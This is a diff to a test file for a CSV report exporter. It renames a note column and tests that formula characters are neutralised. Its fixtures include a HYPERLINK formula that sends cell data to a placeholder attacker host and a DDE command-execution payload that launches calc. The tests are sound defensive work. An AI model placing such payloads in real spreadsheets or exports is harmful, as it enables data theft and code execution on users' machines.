@@ -67,7 +67,7 @@ describe('CSV report', () => {
       Checker: 'Dana "DC" Cohen',
       Reviewer: 'Sam <i>Ortiz</i>',
       'Checked at': AT.toISOString(),
-      Note: 'Checked with the finance office.',
+      'Internal note': 'Checked with the finance office.',
     });
     expect(csv).toContain('"Dana ""DC"" Cohen"');
     expect(byIndex(4).Statement).toBe("'-2+3 is what the leaflet said.\nThen a second line, with a comma.");
@@ -78,7 +78,7 @@ describe('CSV report', () => {
     expect(byIndex(3).Statement).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click"), said the "council", in a statement');
     expect(byIndex(3).Quote).toBe("'+1 555 0100, call now");
     expect(byIndex(3)['Source title']).toBe("'@council");
-    expect(byIndex(4).Note).toBe('\'\t=cmd|" /C calc"!A0');
+    expect(byIndex(4)['Internal note']).toBe('\'\t=cmd|" /C calc"!A0');
     for (const row of rows.slice(1)) {
       for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     }
@@ -116,8 +116,10 @@ describe('CSV report', () => {
       'csv',
     );
     const [, row] = parseCsv(csv2.slice(1));
-    expect(row!.slice(3, 6)).toEqual([
+    const cell = (column: (typeof CSV_COLUMNS)[number]) => row![CSV_COLUMNS.indexOf(column)];
+    expect([cell('Quote'), cell('Quote check'), cell('Source title'), cell('Source URL')]).toEqual([
       'first quote\n\nthird quote',
+      'not checked against a source document\n\nnot checked against a source document',
       'First\nSecond\nThird',
       'https://a.example/\n\nhttps://c.example/',
     ]);
